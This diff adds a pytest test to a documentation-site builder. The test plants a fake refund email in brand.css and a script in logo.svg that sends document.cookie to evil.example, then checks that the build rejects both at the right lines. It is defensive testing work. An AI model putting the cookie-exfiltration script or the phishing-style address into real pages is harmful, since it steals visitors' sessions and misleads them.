@@ -9,7 +9,8 @@ import pytest
 
 from policy_site.pages.editor_files import docs_problems
 from policy_site.pages.stylesheet import stylesheet_problems
-from tests.site.projects import ROOT
+from tests.site.projects import ROOT, build, copy_project, edit
+from tests.site.test_editor_mistakes import assert_nothing_built, line_of, with_last_good_site
 
 BRAND = "docs/assets/brand.css"
 
@@ -165,3 +166,28 @@ def test_files_a_browser_runs_are_not_published_unchecked(tmp_path: Path, name: 
     [problem] = docs_problems(docs, [])
     assert problem.startswith(f"docs/{name}: ")
     assert "instead" in problem
+
+
+def test_the_build_refuses_a_hostile_brand_and_logo_at_their_lines_and_keeps_the_last_site(
+    tmp_path: Path,
+) -> None:
+    project = copy_project(tmp_path)
+    with_last_good_site(project)
+    brand = project / "docs" / "assets" / "brand.css"
+    brand.write_text(
+        brand.read_text(encoding="utf-8")
+        + '\nh1::after { content: " Write to refunds@imgtostl-support.example" }\n',
+        encoding="utf-8",
+    )
+    logo = project / "docs" / "assets" / "images" / "logo.svg"
+    edit(
+        logo, "</svg>", "<script>fetch('https://evil.example/?c='+document.cookie)</script>\n</svg>"
+    )
+
+    result = build(project)
+
+    assert_nothing_built(project, result)
+    css_line = line_of(brand, "h1::after")
+    svg_line = line_of(logo, "<script>")
+    assert f"docs/assets/brand.css:{css_line}: content writes words into the page" in result.stderr
+    assert f"docs/assets/images/logo.svg:{svg_line}: <script> is not allowed" in result.stderr
